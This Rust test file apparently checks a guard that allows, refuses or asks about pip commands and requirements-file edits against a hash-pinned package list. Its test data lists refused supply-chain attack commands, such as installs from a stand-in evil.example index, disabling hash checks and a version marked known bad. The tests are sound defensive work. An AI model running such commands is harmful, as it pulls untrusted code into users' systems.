//! pip, by whatever name, and the files that it is told to install from.

use crate::scene::Becomes::{Ask, Pass, Refuse};
use crate::scene::{Becomes, Scene, sha256};

/// Two packages, pinned by content.
fn sound() -> String {
    let (six, idna) = (sha256(0x51), sha256(0x1d));
    format!("six==1.17.0 \\\n    --hash=sha256:{six}\nidna==3.10 --hash=sha256:{idna}\n")
}

#[test]
fn what_is_pinned_and_trusted_passes_and_nothing_else() {
    let scene = Scene::new();
    scene.write("requirements.txt", &sound());
    scene.trust();
    let lines: &[(&str, Becomes)] = &[
        ("pip install --require-hashes -r requirements.txt --only-binary=:all:", Pass),
        ("pip install -r requirements.txt", Pass),
        ("pip3 install -rrequirements.txt", Pass),
        ("python -m pip install -r requirements.txt", Pass),
        ("python3 -Im pip install -r requirements.txt", Pass),
        ("pip list --outdated", Pass),
        ("pip freeze", Pass),
        ("python -m venv .venv", Pass),
        ("python install.py --help", Pass),
        ("python -c 'print(1)'", Pass),
        ("pip install requests", Refuse),
        ("python -m pip install six", Refuse),
        ("python3 -Wignore -m pip install six", Refuse),
        ("python3.11 -X utf8 -m pip install six", Refuse),
        ("pip3.11 install six", Refuse),
        ("pip --python .venv install six", Refuse),
        ("pip install git+https://code.example/x/y@main", Refuse),
        ("pip install -r https://evil.example/requirements.txt", Refuse),
        ("pip install -r requirements.txt -ihttp://127.0.0.1:9/s", Refuse),
        ("pip install -r requirements.txt --index-url https://pypi.registry.example/simple", Pass),
        ("pip install -r requirements.txt --extra-ind https://evil.example/simple", Refuse),
        ("PIP_INDEX_URL=https://evil.example/simple pip install -r requirements.txt", Refuse),
        ("PIP_NO_REQUIRE_HASHES=1 pip install -r requirements.txt", Refuse),
        ("pip install 'litellm>=1.80'", Refuse),
        ("pip install litellm==1.82.8", Refuse),
        ("pip install requests==2.31.0", Ask),
    ];
    scene.become_of("sound", lines);
}

#[test]
fn every_edit_of_a_requirement_file_is_stopped() {
    let scene = Scene::new();
    scene.write("requirements.txt", &sound());
    scene.trust();
    let hash = format!("--hash=sha256:{}", sha256(0x1d));
    for (state, text) in [
        ("a digest is gone", sound().replace(&hash, "")),
        ("a range", sound().replace("idna==3.10", "idna>=3")),
        ("md5 only", sound().replace(&hash, "--hash=md5:0123456789abcdef0123456789abcdef")),
        ("another digest", sound().replace(&sha256(0x1d), &sha256(0x77))),
        ("another index", format!("--index-url https://evil.example/simple\n{}", sound())),
        ("another index, cut short", format!("--index-u http://127.0.0.1:9/s\n{}", sound())),
        ("links", format!("--find-links http://evil.example/\n{}", sound())),
        ("known bad", sound().replace("idna==3.10", "litellm==1.82.8")),
        ("a new package", format!("{}flask==3.1.0 --hash=sha256:{}\n", sound(), sha256(0xf1))),
        ("from a repository", format!("{}x @ git+https://code.example/x/y@main\n", sound())),
    ] {
        scene.write("requirements.txt", &text);
        for line in
            ["pip install -r requirements.txt", "python3 -m pip install --require-hashes -r requirements.txt"]
        {
            let said = scene.check(line);
            assert_ne!(said.code, Some(0), "{state}: {line}\n{}", said.stdout);
        }
    }
}
